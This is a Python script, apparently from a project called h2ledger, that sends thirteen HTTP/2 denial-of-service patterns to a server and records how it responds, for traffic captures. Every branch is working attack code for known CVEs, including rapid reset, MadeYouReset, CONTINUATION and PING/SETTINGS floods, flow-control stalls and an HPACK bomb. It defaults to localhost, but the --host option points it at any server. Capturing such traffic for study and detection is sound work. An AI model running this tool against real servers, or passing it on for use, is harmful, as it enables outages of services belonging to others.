#!/usr/bin/python3
"""HTTP/2 attack patterns against a real server, for h2ledger's findings captures (issue 21).

usage: /usr/bin/python3 attack.py PATTERN PORT [--host 127.0.0.1] [--n N] [--path P] [--hold S]
       [--grpc N]

PATTERN: rapid-reset, made-you-reset, reset-flood, continuation-flood, ping-flood,
settings-flood, empty-frames-flood, priority-flood, window-update-flood, zero-window,
window-held, hpack-bomb, refused-stream.

Speaks h2c with prior knowledge through Debian's python3-h2: the preface, SETTINGS, every
header block (h2's HPACK encoder), RST_STREAM, PING, SETTINGS and WINDOW_UPDATE come from
h2.connection.H2Connection. The frames h2 refuses to send (a WINDOW_UPDATE of 0, a header block
cut into many CONTINUATIONs, PRIORITY on streams it does not know) are written with hyperframe,
the frame library h2 itself uses. A reader thread takes what the server sends (ACKing its
SETTINGS, as a client must) and counts it, so the server's reactions (RST_STREAM, GOAWAY, a
close) are in the capture and in the one JSON line printed at the end.
"""
import argparse
import json
import os
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.settings
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PriorityFrame,
                              WindowUpdateFrame)

TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
         6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}


class Peer:
    """The socket, h2's connection state for what we send, and what the server answers."""

    def __init__(self, host, port, settings=None, ack=True):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                        validate_outbound_headers=False,
                                        normalize_outbound_headers=False)
        self.h2 = h2.connection.H2Connection(cfg)
        if settings:
            self.h2.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.h2.initiate_connection()
        self.lock = threading.Lock()
        self.ack = ack
        self.frames = {}
        self.rst = {}
        self.goaway = None
        self.closed = False
        self.reader = None

    def start_reading(self):
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def flush(self, extra=b""):
        with self.lock:
            data = self.h2.data_to_send() + extra
            if data:
                try:
                    self.sock.sendall(data)
                except OSError:
                    self.closed = True

    def _read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, flags = buf[3], buf[4]
                payload = buf[9:9 + length]
                buf = buf[9 + length:]
                name = TYPES.get(kind, "UNKNOWN")
                self.frames[name] = self.frames.get(name, 0) + 1
                if kind == 3 and length == 4:
                    code = struct.unpack(">I", payload)[0]
                    self.rst[code] = self.rst.get(code, 0) + 1
                elif kind == 7 and length >= 8:
                    code = struct.unpack(">I", payload[4:8])[0]
                    self.goaway = [code, payload[8:].decode("latin-1")]
                elif kind == 4 and not flags & 1 and self.ack:
                    # A client ACKs the server's SETTINGS (RFC 9113 §6.5.3).
                    with self.lock:
                        try:
                            self.sock.sendall(b"\x00\x00\x00\x04\x01\x00\x00\x00\x00")
                        except OSError:
                            pass

    def wait(self, seconds):
        end = time.time() + seconds
        while time.time() < end and not self.closed:
            time.sleep(0.05)

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self.reader:
            self.reader.join(timeout=2)


def request(path, method="GET", extra=()):
    return [(":method", method), (":scheme", "http"), (":authority", "127.0.0.1"),
            (":path", path)] + list(extra)


def batches(n, size):
    for start in range(0, n, size):
        yield range(start, min(n, start + size))


def run(a):
    p = Peer(a.host, a.port,
             settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
             if a.pattern == "zero-window" else None,
             ack=a.pattern != "refused-stream")
    sent = {}
    if a.pattern == "refused-stream":
        # The requests go out with the preface, before the server's SETTINGS is read (or
        # ACKed): a client that ignores SETTINGS_MAX_CONCURRENT_STREAMS.
        for i in range(a.n):
            p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
        p.flush()
        p.start_reading()
        p.wait(0.5)
        p.ack = True
        p.flush(b"\x00\x00\x00\x04\x01\x00\x00\x00\x00")
        p.wait(a.hold)
        sent["requests"] = a.n
    else:
        p.flush()
        p.start_reading()
        time.sleep(0.1)
    if a.pattern == "rapid-reset":
        # HEADERS then RST_STREAM(CANCEL) at once, 100 streams per write (CVE-2023-44487).
        for b in batches(a.n, 100):
            for i in b:
                sid = 1 + 2 * i
                p.h2.send_headers(sid, request(a.path), end_stream=True)
                p.h2.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            p.flush()
            if p.closed:
                break
        sent["streams_reset"] = a.n
    elif a.pattern == "made-you-reset":
        # A valid request, then in the same write a frame the server must answer with a stream
        # error while the request is in hand (CVE-2025-8671): --trigger content-length (a POST
        # declaring content-length 1, then 2 bytes of DATA: PROTOCOL_ERROR, RFC 9113 §8.1.1),
        # data (DATA after END_STREAM: STREAM_CLOSED, §5.1) or window-update (an increment of 0:
        # PROTOCOL_ERROR, §6.9). nghttp2 1.52 makes the last two connection errors.
        for b in batches(a.n, 100):
            for i in b:
                sid = 1 + 2 * i
                if a.trigger == "content-length":
                    p.h2.send_headers(sid, request(a.path, method="POST",
                                                   extra=[("content-length", "1")]),
                                      end_stream=False)
                    bad = DataFrame(sid, data=b"xx")
                    bad.flags.add("END_STREAM")
                else:
                    p.h2.send_headers(sid, request(a.path), end_stream=True)
                    if a.trigger == "window-update":
                        bad = WindowUpdateFrame(sid, window_increment=0)
                    else:
                        bad = DataFrame(sid, data=b"x")
                p.flush(bad.serialize())
            if p.closed:
                break
        sent["streams"] = a.n
        sent["trigger"] = a.trigger
    elif a.pattern == "reset-flood":
        # Requests the server must refuse (an upper-case header name is malformed, RFC 9113
        # §8.2.1), each answered with RST_STREAM (CVE-2019-9514).
        for b in batches(a.n, 100):
            for i in b:
                p.h2.send_headers(1 + 2 * i, request(a.path, extra=[("X-Bad", "1")]),
                                  end_stream=True)
            p.flush()
            if p.closed:
                break
        sent["bad_requests"] = a.n
    elif a.pattern == "continuation-flood":
        # One request whose header block is cut into a HEADERS and a.n CONTINUATIONs, never
        # ended (CVE-2024-27316, CVE-2023-45288).
        block = p.h2.encoder.encode(request(a.path) + [("x-pad-%d" % k, "v" * 16)
                                                        for k in range(a.n)])
        step = max(1, len(block) // (a.n + 1))
        h = HeadersFrame(1)
        h.flags.add("END_STREAM")
        h.data = block[:step]
        raw = h.serialize()
        rest = block[step:]
        for k in range(a.n):
            c = ContinuationFrame(1)
            c.data = rest[k * step:(k + 1) * step] if k + 1 < a.n else b""
            raw += c.serialize()
        p.flush(raw)
        sent["continuations"] = a.n
    elif a.pattern == "ping-flood":
        # PINGs written without reading the ACKs (CVE-2019-9512).
        for b in batches(a.n, 500):
            for i in b:
                p.h2.ping(struct.pack(">Q", i))
            p.flush()
            if p.closed:
                break
        sent["pings"] = a.n
    elif a.pattern == "settings-flood":
        # SETTINGS frames, each to be ACKed (CVE-2019-9515).
        for b in batches(a.n, 500):
            for i in b:
                p.h2.update_settings({h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE: 65536 + i})
            p.flush()
            if p.closed:
                break
        sent["settings"] = a.n
    elif a.pattern == "empty-frames-flood":
        # A request with a body that never comes: empty DATA frames (CVE-2019-9518).
        p.h2.send_headers(1, request(a.path, method="POST"), end_stream=False)
        p.flush()
        for b in batches(a.n, 500):
            for _ in b:
                p.h2.send_data(1, b"", end_stream=False)
            p.flush()
            if p.closed:
                break
        sent["empty_data"] = a.n
    elif a.pattern == "priority-flood":
        # PRIORITY frames reshuffling idle streams (CVE-2019-9513).
        raw = b""
        for i in range(a.n):
            raw += PriorityFrame(1 + 2 * (i % 100), depends_on=1 + 2 * ((i + 1) % 100),
                                 stream_weight=i % 256).serialize()
            if len(raw) > 16000:
                p.flush(raw)
                raw = b""
        p.flush(raw)
        sent["priority"] = a.n
    elif a.pattern == "window-update-flood":
        # Connection WINDOW_UPDATEs of 1 with no DATA received to warrant them.
        for b in batches(a.n, 500):
            for _ in b:
                p.h2.increment_flow_control_window(1)
            p.flush()
            if p.closed:
                break
        sent["window_updates"] = a.n
    elif a.pattern == "zero-window":
        # SETTINGS_INITIAL_WINDOW_SIZE 0 (sent with the preface), then requests for big
        # responses, and no WINDOW_UPDATE: the server holds its data (CVE-2019-9517).
        for i in range(a.n):
            p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
        p.flush()
        sent["requests"] = a.n
    elif a.pattern == "window-held":
        # Default windows (65,535 bytes each), requests for big responses, and no
        # WINDOW_UPDATE ever: the server sends 65,535 bytes and waits with both of its windows
        # at 0 until the client closes, --hold seconds later. With --grpc: a gRPC call of
        # --path whose one message is --grpc as a 4-byte big-endian number (grpcgo-flow's
        # Download: that many messages of its -size).
        for i in range(a.n):
            if a.grpc is None:
                p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
            else:
                sid = 1 + 2 * i
                p.h2.send_headers(sid, request(a.path, "POST", [
                    ("content-type", "application/grpc"), ("te", "trailers")]))
                msg = struct.pack(">BI", 0, 4) + struct.pack(">I", a.grpc)
                p.h2.send_data(sid, msg, end_stream=True)
        p.flush()
        sent["requests"] = a.n
    elif a.pattern == "hpack-bomb":
        # A 4 KiB header indexed once, then a block referencing it a.n times (one byte each).
        big = "a" * 4000
        p.h2.send_headers(1, request(a.path, extra=[("x-big", big)]), end_stream=True)
        p.flush()
        time.sleep(0.1)
        p.h2.send_headers(3, request(a.path, extra=[("x-big", big)] * a.n), end_stream=True)
        p.flush()
        sent["references"] = a.n
    if a.pattern != "refused-stream":
        p.wait(a.hold)
    by_server = p.closed
    p.close()
    out = {"pattern": a.pattern, "port": a.port, "sent": sent,
           "received": {"frames": p.frames, "rst_stream": {str(k): v for k, v in sorted(p.rst.items())},
                        "goaway": p.goaway, "closed_by_server": by_server}}
    print(json.dumps(out, sort_keys=True))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("pattern")
    ap.add_argument("port", type=int)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--n", type=int, default=1500)
    ap.add_argument("--path", default="/")
    ap.add_argument("--hold", type=float, default=1.0)
    ap.add_argument("--trigger", choices=["content-length", "data", "window-update"],
                    default="content-length")
    ap.add_argument("--grpc", type=int, default=None, metavar="N",
                    help="window-held: a gRPC call whose message is N (4 bytes, big-endian)")
    run(ap.parse_args())


if __name__ == "__main__":
    sys.exit(main())
